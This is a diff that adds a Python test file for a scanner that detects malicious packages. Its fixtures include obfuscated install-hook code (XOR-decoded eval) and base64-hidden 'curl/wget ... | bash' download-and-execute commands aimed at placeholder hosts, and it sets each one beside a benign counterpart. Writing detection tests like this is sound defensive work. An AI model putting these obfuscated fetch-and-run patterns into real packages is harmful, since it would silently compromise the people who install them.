@@ -1,0 +1,101 @@
+"""Decoding the scanner follows beyond a literal call: strings built in a loop, local
+decoder functions, printf-style commands, and tokens of a package's own methods
+(defanged fixtures: nothing here is run)."""
+
+from __future__ import annotations
+
+from detector.code.analyze import analyze
+from detector.code.invariance import rename_functions
+from detector.code.pyast import _percent_format
+
+
+def rules(files: dict[str, str]) -> set[str]:
+    return {f.rule for f in analyze(files).findings}
+
+
+XOR_LOOP = '''
+from setuptools.command.install import install
+class InstallCommand(install):
+    def run(self):
+        data, key, out = "]]E]JE", "4052", ""
+        for i in range(len(data)):
+            out += chr(ord(data[i]) ^ ord(key[i % len(key)]))
+        eval(compile(out, "<string>", "exec"))
+'''
+
+ORDINARY_LOOP = '''
+def banner(words):
+    out = ""
+    for w in words:
+        out += w.upper()
+    eval(compile(out, "<string>", "eval"))
+'''
+
+
+def test_string_decoded_in_a_loop_then_executed_is_decode_exec():
+    assert "decode-exec" in rules({"setup.py": XOR_LOOP})
+    assert "decode-exec" not in rules({"setup.py": ORDINARY_LOOP})
+
+
+LOCAL_DECODER = '''
+import subprocess, base64
+def decode_str(encoded):
+    raw = base64.b64decode(encoded)
+    return raw.decode("utf-8")
+def processing():
+    command = [decode_str("Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94LnNoIHwgYmFzaA==")]
+    subprocess.Popen(command, shell=True)
+processing()
+'''
+
+LOCAL_DECODER_BENIGN = '''
+import subprocess, base64
+def decode_str(encoded):
+    return base64.b64decode(encoded).decode("utf-8")
+def processing():
+    command = [decode_str("bWFrZSBhbGw="), "-j2"]
+    subprocess.Popen(command)
+'''
+
+
+def test_a_local_decoder_function_folds_like_the_inline_call():
+    assert "shell-download-exec" in rules({"pkg/__init__.py": LOCAL_DECODER})
+    found = rules({"pkg/__init__.py": LOCAL_DECODER_BENIGN})
+    assert "process-spawn" in found and "shell-download-exec" not in found
+
+
+PERCENT_PIPE = '''
+import os, base64
+shell = "wget -qO - https://example.invalid/x.sh | bash"
+encoded = base64.b64encode(shell)
+os.system("echo %s|base64 -d|bash" % encoded)
+'''
+
+PERCENT_BENIGN = '''
+import os
+def build(target):
+    os.system("make %s -j%d" % (target, 2))
+'''
+
+
+def test_printf_formatted_commands_are_folded():
+    assert "shell-download-exec" in rules({"setup.py": PERCENT_PIPE})
+    assert "shell-download-exec" not in rules({"setup.py": PERCENT_BENIGN})
+
+
+def test_percent_format_on_text():
+    assert _percent_format("a %s b %-3d c %% d %(x)s e %q", ["1", "2"]) == "a 1 b 2 c % d {} e %q"
+    assert _percent_format("%", []) == "%"
+
+
+PKG = {
+    "pkg/__init__.py": "from . import tools\ntools.fetch_conf()\n",
+    "pkg/tools.py": "import os\n\ndef fetch_conf():\n    return os.getcwd()\n",
+}
+
+
+def test_method_named_like_a_package_function_is_a_local_call():
+    tokens = analyze(PKG).tokens
+    assert "hot|c:_" in tokens and not [t for t in tokens if "fetch_conf" in t]
+    renamed = rename_functions(PKG)
+    assert sorted(analyze(renamed).tokens) == sorted(tokens)
